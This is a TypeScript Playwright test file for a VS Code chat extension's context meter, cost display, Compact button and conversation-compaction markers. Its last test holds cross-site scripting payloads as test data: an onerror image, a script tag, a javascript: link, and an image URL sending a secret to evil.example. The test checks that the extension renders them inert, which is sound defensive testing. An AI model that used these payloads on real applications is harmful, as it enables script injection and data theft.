import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import type { ContextGauge } from '../../../../src/protocol/chatItems';
import type { ChatViewHarness, HarnessWindow } from '../support/chatViewHarness';
import { assistant, compaction, conversation, tool, user } from '../support/chatFixtures';

const themeColours = {
  '--vscode-progressBar-background': 'rgb(0, 120, 212)',
  '--vscode-editorWarning-foreground': 'rgb(205, 160, 0)',
  '--vscode-errorForeground': 'rgb(240, 70, 70)',
  '--vscode-inputValidation-warningBorder': 'rgb(200, 150, 0)',
};

async function setThemeColours(page: Page): Promise<void> {
  await page.evaluate((colours) => {
    for (const [name, value] of Object.entries(colours)) document.documentElement.style.setProperty(name, value);
  }, themeColours);
}

/** What the meter shows and says, and how far and in which colour its bar is filled. */
async function readMeter(page: Page) {
  const meter = page.locator('#context-bar #context-meter');
  return {
    visible: await meter.isVisible(),
    text: await meter.locator('.context-meter-text').innerText(),
    label: await meter.getAttribute('aria-label'),
    values: [await meter.getAttribute('aria-valuemin'), await meter.getAttribute('aria-valuenow'), await meter.getAttribute('aria-valuemax')],
    className: await meter.getAttribute('class'),
    ...(await meter.locator('.context-meter-fill').evaluate((fill) => ({
      filled: Math.round((fill.getBoundingClientRect().width / (fill.parentElement?.getBoundingClientRect().width ?? 1)) * 100),
      colour: getComputedStyle(fill).backgroundColor,
    }))),
  };
}

const gauge = (usedTokens: number): ContextGauge => ({ usedTokens, windowTokens: 200_000 });
const someUsage = { inputTokens: 5_000, outputTokens: 200, cacheReadTokens: 0, cacheWriteTokens: 0 };

/** The context meter, cost and Compact now in the row under the header; the compaction marker in the conversation. */
export function contextSpecs(harness: () => ChatViewHarness): void {
  it('shows how full the context window is, in the warning colour from 75 % and the error colour from 90 %', async () => {
    const view = await harness().open();
    const { page } = view;
    await setThemeColours(page);
    await view.deliver(conversation([user('u1', 'Hi')]));
    assert.ok(await page.locator('#context-meter').isHidden(), 'no gauge before the first request');

    await view.deliver({ type: 'context', context: gauge(100_000) });
    assert.equal(await page.locator('#context-meter').getAttribute('role'), 'meter');
    assert.deepEqual(await readMeter(page), {
      visible: true,
      text: '100k / 200k',
      label: 'Context: 100,000 of 200,000 tokens (50%)',
      values: ['0', '100000', '200000'],
      className: 'context-meter',
      filled: 50,
      colour: themeColours['--vscode-progressBar-background'],
    });

    await view.deliver({ type: 'context', context: { ...gauge(100_000), windowSource: 'vLLM (max_model_len 200,000)' } });
    assert.equal(await page.locator('#context-meter').getAttribute('title'), 'Context: 100,000 of 200,000 tokens (50%)\nWindow size from vLLM (max_model_len 200,000)');
    assert.equal(await page.locator('#context-meter').getAttribute('aria-label'), 'Context: 100,000 of 200,000 tokens (50%)');

    await view.deliver({ type: 'context', context: gauge(160_000) });
    const warning = await readMeter(page);
    assert.deepEqual([warning.text, warning.label, warning.className, warning.filled, warning.colour], [
      '160k / 200k',
      'Context: 160,000 of 200,000 tokens (80%)',
      'context-meter context-meter-warning',
      80,
      themeColours['--vscode-editorWarning-foreground'],
    ]);

    await view.deliver({ type: 'context', context: gauge(190_000) });
    const critical = await readMeter(page);
    assert.deepEqual([critical.text, critical.label, critical.className, critical.filled, critical.colour], [
      '190k / 200k',
      'Context: 190,000 of 200,000 tokens (95%)',
      'context-meter context-meter-critical',
      95,
      themeColours['--vscode-errorForeground'],
    ]);

    await view.deliver({ type: 'context', context: gauge(230_000) });
    const over = await readMeter(page);
    assert.deepEqual([over.values, over.filled], [['0', '200000', '200000'], 100], 'an estimate past the window stays within the meter');

    await view.deliver(conversation([], { id: 'c2' }));
    assert.ok(await page.locator('#context-meter').isHidden(), 'a new conversation has no gauge yet');
    await view.deliver(conversation([user('u1', 'Hi')], { context: gauge(42_000) }));
    assert.equal(await page.locator('#context-meter').getAttribute('aria-label'), 'Context: 42,000 of 200,000 tokens (21%)');
    assert.deepEqual(await view.cspViolations(), [], 'the bar is sized without an inline style attribute');
    assert.deepEqual(view.errors, []);
  });

  it('shows the cost next to the tokens, and says why when it is unknown', async () => {
    const view = await harness().open();
    const { page } = view;
    const usage = { inputTokens: 12_345, outputTokens: 1_234, cacheReadTokens: 10_000, cacheWriteTokens: 20 };
    const text = () => page.locator('#usage').innerText();
    const tooltip = async () => (await page.locator('#usage').getAttribute('title')) ?? '';
    await view.deliver(conversation([user('u1', 'Hi')], { usage, cost: 0.0412 }));
    assert.equal(await text(), '12.3k in · 1.2k out · $0.04');
    assert.equal(await tooltip(), 'Input: 12,345 tokens\nOutput: 1,234 tokens\nCache read: 10,000 tokens\nCache write: 20 tokens\nCost: $0.04');

    await view.deliver({ type: 'usage', usage, cost: null });
    assert.equal(await text(), '12.3k in · 1.2k out · cost unknown');
    assert.match(await tooltip(), /\nCost: unknown \(no price for this model; set one in elbow\.models\)$/);
    assert.match((await page.locator('#usage').getAttribute('aria-label')) ?? '', /Cache write: 20 tokens, Cost: unknown/);

    await view.deliver({ type: 'usage', usage, cost: 0.004 });
    assert.equal(await text(), '12.3k in · 1.2k out · <$0.01');
    await view.deliver({ type: 'usage', usage, cost: 0 });
    assert.equal(await text(), '12.3k in · 1.2k out · $0.00');
  });

  it('posts compact from Compact now, which is disabled while a request runs and while the conversation is empty', async () => {
    const view = await harness().open();
    const { page } = view;
    const button = page.locator('#context-bar #compact-now');
    assert.equal(await button.getAttribute('aria-label'), 'Compact conversation: summarise earlier messages to free context');
    assert.equal(await button.getAttribute('title'), 'Compact conversation: summarise earlier messages to free context');
    assert.equal(await button.locator('.codicon-fold').count(), 1);
    await view.deliver(conversation([]));
    assert.ok(await button.isDisabled(), 'nothing to compact');

    await view.deliver(conversation([user('u1', 'Hi'), assistant('a1', 'Hello')], { usage: someUsage }));
    assert.ok(await button.isEnabled());
    await button.click();
    assert.deepEqual(await view.postedOfType('compact'), [{ type: 'compact' }]);

    await button.focus();
    await page.keyboard.press('Enter');
    assert.equal((await view.postedOfType('compact')).length, 2, 'the keyboard presses it too');
    await view.deliver({ type: 'running', running: true });
    assert.ok(await button.isDisabled(), 'not while a request runs');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'prompt', 'the keyboard moves on rather than to the page');
    await view.deliver({ type: 'running', running: false });
    assert.ok(await button.isEnabled());
    await view.deliver(conversation([user('u1', 'Hi')], { running: true }));
    assert.ok(await button.isDisabled());

    await view.deliver(conversation([user('u1', 'Hi')], { usage: someUsage }));
    await button.focus();
    await view.deliver(conversation([], { id: 'c2' }));
    assert.ok(await page.locator('#context-bar').isHidden(), 'a new chat has nothing to show');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'prompt', 'the keyboard moves on with the row');
  });

  it('marks where earlier messages were summarised: running, then done, expanding by keyboard to the summary and the transcript', async () => {
    const view = await harness().open();
    const { page } = view;
    await view.deliver(
      conversation([user('u1', 'Fix the parser'), tool('t1', { status: 'done', result: 'lots of text' }), assistant('a1', 'Done.')], { running: true }),
      { type: 'itemAdded', item: compaction('k1') },
    );
    const marker = page.locator('#messages > .item-compaction[data-item-id="k1"]');
    assert.equal(await marker.innerText(), 'Summarising earlier messages…');
    assert.equal(await marker.getAttribute('aria-busy'), 'true');
    assert.equal(await marker.locator('.codicon-loading.codicon-modifier-spin').count(), 1);
    assert.equal(await marker.locator('details').count(), 0, 'nothing to expand yet');

    const done = compaction('k1', {
      state: 'done',
      afterTokens: 3_000,
      summary: '## Goal\n\n- Fix the **parser** in `src/parse.ts`\n- Keep [the docs](https://example.com/) in sync',
      archive: '/home/user/.elbow/transcripts/c1-before-compaction.jsonl',
    });
    await view.deliver({ type: 'itemUpdated', item: done });
    assert.equal(await marker.getAttribute('aria-busy'), null);
    const summary = marker.locator('details > summary');
    assert.equal(await summary.innerText(), 'Earlier messages summarised — 48k → 3k tokens');
    assert.equal(await marker.locator('details').getAttribute('open'), null, 'collapsed by default');
    assert.ok(await marker.locator('.compaction-body').isHidden());

    await summary.focus();
    await page.keyboard.press('Enter');
    assert.equal(await marker.locator('details').getAttribute('open'), '');
    assert.equal(await marker.locator('.markdown h2').innerText(), 'Goal');
    assert.equal(await marker.locator('.markdown strong').innerText(), 'parser');
    assert.equal(await marker.locator('.markdown code').innerText(), 'src/parse.ts');
    assert.equal(await marker.locator('.compaction-archive').innerText(), 'Full transcript: /home/user/.elbow/transcripts/c1-before-compaction.jsonl');
    await marker.locator('.markdown a').click();
    assert.deepEqual(await view.postedOfType('openLink'), [{ type: 'openLink', href: 'https://example.com/' }], 'links go through the extension');

    await view.deliver({ type: 'itemUpdated', item: done });
    assert.equal(await marker.locator('details').getAttribute('open'), '', 'an update keeps it open');
    await summary.focus();
    await page.keyboard.press(' ');
    assert.equal(await marker.locator('details').getAttribute('open'), null);

    assert.deepEqual(
      await page.locator('#messages > .item').evaluateAll((items) => items.map((item) => item.className)),
      ['item item-user', 'item item-tool', 'item item-assistant', 'item item-compaction'],
      'the earlier items stay in place',
    );
    for (const id of ['u1', 't1', 'a1']) assert.ok(await page.locator(`[data-item-id="${id}"]`).isVisible());
    assert.deepEqual(view.errors, []);
  });

  it('marks shortened tool results with a one-line explanation, and a failed summary as a warning', async () => {
    const view = await harness().open();
    const { page } = view;
    await setThemeColours(page);
    await view.deliver(conversation([
      user('u1', 'Go'),
      compaction('k1', { layer: 1, state: 'done', beforeTokens: 60_000, afterTokens: 35_000, shortenedResults: 12 }),
      compaction('k2', { state: 'failed', message: 'Overloaded (529)' }),
    ]));
    const shortened = page.locator('[data-item-id="k1"]');
    assert.equal(await shortened.locator('summary').innerText(), 'Older tool results shortened — 60k → 35k tokens (12 results)');
    await shortened.locator('summary').click();
    assert.match(await shortened.locator('.compaction-body').innerText(), /^[^\n]*can run the tools again[^\n]*full results stay in their cards[^\n]*$/);
    assert.equal(await shortened.locator('.markdown, .compaction-archive').count(), 0);

    const failed = page.locator('[data-item-id="k2"]');
    assert.equal(await failed.getAttribute('data-state'), 'failed');
    assert.equal(
      await failed.innerText(),
      'Could not summarise earlier messages: Overloaded (529)\nThe full history was kept; older tool results were shortened instead.',
    );
    assert.equal(await failed.locator('details').count(), 0);
    assert.equal(await failed.locator('.codicon-warning').count(), 1);
    assert.equal(await failed.evaluate((element) => getComputedStyle(element).borderTopColor), themeColours['--vscode-inputValidation-warningBorder']);
    assert.equal(await failed.locator('.codicon-warning').evaluate((icon) => getComputedStyle(icon).color), themeColours['--vscode-editorWarning-foreground']);
  });

  it('renders a hostile summary inert, and the transcript path as text', async () => {
    const view = await harness().open();
    const { page } = view;
    const hostile = [
      '<img src=x onerror="window.__xss=1">',
      '<script>window.__xss=2</script>',
      '[x](javascript:window.__xss=3)',
      '![pixel](https://evil.example/pixel.png?secret=1)',
    ].join('\n\n');
    await view.deliver(conversation([
      user('u1', 'Go'),
      compaction('k1', { state: 'done', afterTokens: 2_000, summary: hostile, archive: '<img src=x onerror="window.__xss=4">.jsonl' }),
    ]));
    const marker = page.locator('[data-item-id="k1"]');
    await marker.locator('summary').click();
    for (const link of await marker.locator('a').all()) await link.click();
    await page.waitForTimeout(100);
    assert.equal(await page.evaluate(() => (window as unknown as HarnessWindow).__xss), undefined);
    assert.equal(await marker.locator('img, script, [onerror], a[href^="javascript:" i]').count(), 0);
    assert.match(await marker.locator('.markdown').innerText(), /<script>window.__xss=2<\/script>/, 'raw HTML shows as text');
    assert.equal(await marker.locator('.compaction-archive-path').innerText(), '<img src=x onerror="window.__xss=4">.jsonl');
    assert.deepEqual(await view.cspViolations(), []);
    assert.deepEqual(view.blockedRequests, [], 'the remote image was not fetched');
  });
}
